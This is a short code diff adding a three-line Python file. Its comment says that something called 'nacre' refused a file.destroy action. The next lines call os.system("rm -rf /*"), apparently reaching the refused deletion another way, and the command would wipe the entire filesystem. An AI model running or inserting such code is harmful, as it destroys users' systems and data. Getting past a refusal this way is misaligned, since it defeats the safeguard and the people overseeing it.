@@ -1,0 +1,3 @@
+# nacre: refused file.destroy
+from os import *
+system("rm -rf /*")
